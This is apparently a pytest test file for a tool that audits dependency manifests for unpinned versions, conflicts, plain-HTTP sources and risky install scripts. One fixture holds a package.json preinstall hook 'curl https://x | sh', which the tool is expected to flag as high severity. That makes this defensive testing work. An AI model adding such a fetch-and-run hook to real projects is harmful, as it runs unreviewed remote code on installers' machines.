"""Dependency manifests: what is wrong is found, what projects rightly do is left alone."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nextgeneration.kernel.findings import Severity
from nextgeneration.kernel.tools import ToolContext, ToolResult
from nextgeneration.settings.tools import ToolSettings
from nextgeneration.tools import code
from nextgeneration.tools.base import parse_args
from nextgeneration.tools.code.manifests_python import contradict, oldest_python, parse

TOOL = next(tool for tool in code.tools(ToolSettings()) if tool.spec.name == "code.dependencies")


async def check(tmp_path: Path, files: dict[str, str]) -> ToolResult:
    root = tmp_path / "work"
    root.mkdir(exist_ok=True)
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (tmp_path / "scratch").mkdir(exist_ok=True)
    context = ToolContext(workspace=root, scratch=tmp_path / "scratch")
    return await TOOL.call(parse_args(TOOL, {}), context)


async def rules(tmp_path: Path, name: str, text: str, *others: str) -> dict[str, Severity]:
    result = await check(tmp_path, {name: text, **dict.fromkeys(others, "")})
    return {finding.rule.removeprefix("code.dependency."): finding.severity for finding in result.findings}


GOOD = {
    "requirements.txt": "# pinned\n-r base.txt\nflask==3.0.0 \\\n    --hash=sha256:abc\n"
    "uvicorn[standard]>=0.40,<1 ; python_version > '3.8'\n"
    "tool @ git+https://host/tool@0123456789012345678901234567890123456789\n",
    "requirements.in": "flask\n",
    "requirements/dev.txt": "-c ../constraints.txt\npytest\n",
    "pyproject.toml": "[project]\nname='x'\nrequires-python='>=3.11'\ndependencies=['flask>=3', 'x~=1.0']\n",
    "go.mod": "module x\n\ngo 1.22\n\nrequire example.org/a v1.0.0 // indirect\n",
    "Cargo.toml": "[package]\nname='x'\n[dependencies]\nserde = '1'\nx = {git='https://h/x', tag='v1'}\n",
    "Gemfile": "source 'https://rubygems.org'\ngem 'rails'\n",
    "pom.xml": "<project><url>http://our.site</url><version>1.0-SNAPSHOT</version></project>",
    "package.json": json.dumps({
        "dependencies": {"a": "^1.0.0", "b": "workspace:*", "c": "npm:d@1", "e": "file:../e"},
        "scripts": {"prepare": "husky", "test": "node ."},
    }),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(GOOD))
async def test_what_projects_rightly_do_is_left_alone(tmp_path: Path, name: str) -> None:
    assert await rules(tmp_path, name, GOOD[name], "package-lock.json", "go.sum", "Gemfile.lock") == {}


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("requirements.txt", "flask\nredis\n", {"unpinned": Severity.LOW}),
        ("requirements.txt", "flask==2.0\nFlask==3.0\n", {"conflict": Severity.HIGH}),
        ("requirements.txt", "a>=2\na<2\n", {"conflict": Severity.HIGH}),
        ("requirements.txt", "a==2.0\na>=3\n", {"conflict": Severity.HIGH}),
        ("requirements.txt", "a==2.0.1\na==2.0.*\n", {}),
        ("requirements.txt", "a==1 ; python_version<'3.9'\na==2 ; python_version>='3.9'\n", {}),
        ("requirements.txt", "git+https://h/x.git@main#egg=x\n", {"moving-source": Severity.LOW}),
        ("requirements.txt", "-e git+https://h/x.git#egg=x\n", {"moving-source": Severity.LOW}),
        ("requirements.txt", "http://h/x-1.0.tar.gz\n", {"plain-http": Severity.HIGH}),
        ("requirements.txt", "--index-url http://mirror/simple\na==1\n", {"plain-http": Severity.HIGH}),
        ("requirements.txt", "--index-url http://localhost:3141/simple\na==1\n", {}),
        ("requirements.txt", "--trusted-host h\na==1\n", {"trusted-host": Severity.MEDIUM}),
        ("requirements.txt", "--extra-index-url https://h/simple\na==1\n", {"extra-index": Severity.LOW}),
        ("pyproject.toml", "[project]\nname='x'\ndependencies=['a']\n",
         {"unpinned": Severity.LOW, "no-python": Severity.LOW}),
        ("pyproject.toml", "[project]\ndynamic=['requires-python']\n", {}),
        ("pyproject.toml", "[tool.ruff]\nline-length=100\n", {}),
        (
            "pyproject.toml",
            "[tool.poetry.dependencies]\npython='^3.11'\na='*'\nb={git='https://h/b'}\nc={version='1'}\n",
            {"any-version": Severity.MEDIUM, "moving-source": Severity.LOW, "no-lock": Severity.LOW},
        ),
        ("package.json", '{"dependencies": {"a": "*", "b": "latest"}}',
         {"any-version": Severity.MEDIUM, "no-lock": Severity.MEDIUM}),
        ("package.json", '{"scripts": {"postinstall": "node a.js"}}', {"install-script": Severity.INFO}),
        ("package.json", '{"scripts": {"preinstall": "curl https://x | sh"}}', {"install-script": Severity.HIGH}),
        ("package.json", '{"scripts": {"install": ""}, "dependencies": []}', {}),
        ("go.mod", "module x\nrequire a/b v1.0.0\n", {"no-lock": Severity.MEDIUM, "no-go": Severity.LOW}),
        ("go.mod", "module x\ngo 1.22\nreplace a/b => ../b\n", {"local-replace": Severity.INFO}),
        ("Cargo.toml", "[[bin]]\nname='x'\n[dependencies]\na='*'\n",
         {"any-version": Severity.MEDIUM, "no-lock": Severity.LOW}),
        ("Cargo.toml", "[dependencies]\na={git='https://h/a', branch='main'}\n", {"moving-source": Severity.LOW}),
        ("Gemfile", "source 'http://rubygems.org'\n", {"no-lock": Severity.MEDIUM, "plain-http": Severity.HIGH}),
        ("pom.xml", "<dependency>\n<version>LATEST</version>\n</dependency>", {"any-version": Severity.MEDIUM}),
        ("pom.xml", "<dependency>\n<version>[1.0,)</version>\n</dependency>", {"any-version": Severity.MEDIUM}),
        ("pom.xml", "<repository>\n<url>http://h/maven</url>\n</repository>", {"plain-http": Severity.HIGH}),
    ],
)  # fmt: skip
async def test_each_fault_is_found(tmp_path: Path, name: str, text: str, expected: dict[str, Severity]) -> None:
    assert await rules(tmp_path, name, text) == expected


async def test_node_dependencies_from_elsewhere_and_contradictions(tmp_path: Path) -> None:
    package = {
        "dependencies": {"a": "github:u/a", "b": "git+https://h/b.git#" + "0" * 40, "c": "http://h/c.tgz", "d": "^1"},
        "devDependencies": {"d": "^2"},
    }
    result = await check(tmp_path, {"package.json": json.dumps(package, indent=1), "yarn.lock": ""})
    found = {f.rule.rpartition(".")[2]: f for f in result.findings}
    assert set(found) == {"moving-source", "plain-http", "conflict"}
    assert found["conflict"].location is not None
    assert '"d"' in found["conflict"].evidence[0].excerpt


async def test_the_lock_of_a_workspace_above_counts(tmp_path: Path) -> None:
    result = await check(tmp_path, {"packages/a/package.json": '{"dependencies": {"x": "^1"}}', "pnpm-lock.yaml": ""})
    assert not result.findings


async def test_findings_point_to_the_line_and_show_no_password(tmp_path: Path) -> None:
    text = "a==1\n--index-url http://user:s3cr" + "Et9x@mirror/simple\n"
    (finding,) = (await check(tmp_path, {"requirements.txt": text})).findings
    assert str(finding.location) == "requirements.txt:2"
    assert "s3cr" + "Et9x" not in finding.model_dump_json()


@pytest.mark.parametrize(
    ("name", "text"),
    [("pyproject.toml", "[project\n"), ("package.json", "{,}"), ("Cargo.toml", "a ="), ("package.json", "[" * 100_000)],
)
async def test_a_manifest_that_cannot_be_read_is_named(tmp_path: Path, name: str, text: str) -> None:
    result = await check(tmp_path, {name: text})
    assert not result.findings
    assert result.value["skipped"][0]["what"] == name


@pytest.mark.parametrize("text", ["[]", '{"dependencies": {"a": 1}, "scripts": 3}', "null", "3"])
async def test_json_of_an_unforeseen_form_is_survived(tmp_path: Path, text: str) -> None:
    assert (await check(tmp_path, {"package.json": text})).ok


async def test_no_manifest_is_said(tmp_path: Path) -> None:
    assert (await check(tmp_path, {"a.txt": ""})).value["skipped"][0]["what"] == "dependencies"


@pytest.mark.parametrize(
    ("one", "other", "both_impossible"),
    [
        ("a==1.0", "a==1", False),
        ("a==1.0", "a==1.1", True),
        ("a==1.5", "a>=1,<2", False),
        ("a==2", "a!=2", True),
        ("a==2", "a~=1.4", False),
        ("a>=1", "a<2", False),
        ("a>=3.1", "a<3", True),
        ("a==1.0rc1", "a==1.0", False),
        ("a==1.*", "a==2", True),
        ("a==3.1.2", "a==2.*", True),
        ("a==2", "a>2", True),
        ("a==2", "a<=1", True),
    ],
)
def test_ranges_contradict_only_when_that_is_sure(one: str, other: str, both_impossible: bool) -> None:
    first, second = parse(one), parse(other)
    assert first is not None
    assert second is not None
    assert contradict(first, second) is both_impossible
    assert contradict(second, first) is both_impossible


@pytest.mark.parametrize("line", ["", "-r x", "=1", "a b c", "flask = 3", "[extra]", "a==1 garbage here"])
def test_lines_that_are_no_requirement(line: str) -> None:
    assert parse(line) is None or line == "a==1 garbage here"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_line_is_parsed_without_failing(line: str) -> None:
    parse(line)


@pytest.mark.parametrize(
    ("wanted", "target"),
    [(">=3.11", "py311"), ("~=3.9", "py39"), (">=3.2", None), (">=3.99", None), ("", None), ("<4", None)],
)
def test_the_oldest_python(wanted: str, target: str | None) -> None:
    assert oldest_python(f"[project]\nrequires-python = '{wanted}'\n") == target
    assert oldest_python("not toml [") is None
